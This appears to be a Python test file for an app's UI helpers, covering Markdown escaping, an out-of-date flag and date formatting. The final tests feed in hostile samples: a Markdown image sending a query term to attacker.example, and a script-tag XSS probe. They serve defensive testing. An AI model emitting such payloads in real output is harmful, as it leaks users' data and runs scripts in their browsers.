"""UI helpers: literal display of typed text and the 'may be out of date' flag."""

import datetime as dt

from onestop.text import long_date
from onestop.ui.common import escape_markdown, is_out_of_date


def test_escape_markdown_neutralises_links_html_and_formatting() -> None:
    shown = escape_markdown("<b>hi</b> [click](https://evil.example) **bold** # heading")
    assert "<b>" not in shown and "](" not in shown and "**" not in shown
    assert shown.replace("\\", "") == "<b>hi</b> [click](https://evil.example) **bold** # heading"


def test_out_of_date_after_twelve_months() -> None:
    today = dt.date(2026, 11, 30)
    assert not is_out_of_date("2025-11-30", today)
    assert is_out_of_date("2025-11-29", today)
    assert not is_out_of_date("2024-02-29", dt.date(2025, 2, 28))


def test_long_date_in_govuk_style() -> None:
    assert long_date("2026-04-06") == "6 April 2026"
    assert long_date("2026-11-30T09:00:00+00:00") == "30 November 2026"
    assert long_date(None) == "unknown"


def test_answer_text_is_rendered_without_images_or_raw_html() -> None:
    from onestop.ui.common import answer_markdown

    shown = answer_markdown(
        "Pay SSP. ![x](https://attacker.example/?q=cancer) <script>alert(1)</script> [GOV.UK](https://www.gov.uk/)"
    )
    assert "attacker" not in shown and "<script>" not in shown and "&lt;script&gt;" in shown
    assert "[GOV.UK](https://www.gov.uk/)" in shown  # our own source links stay
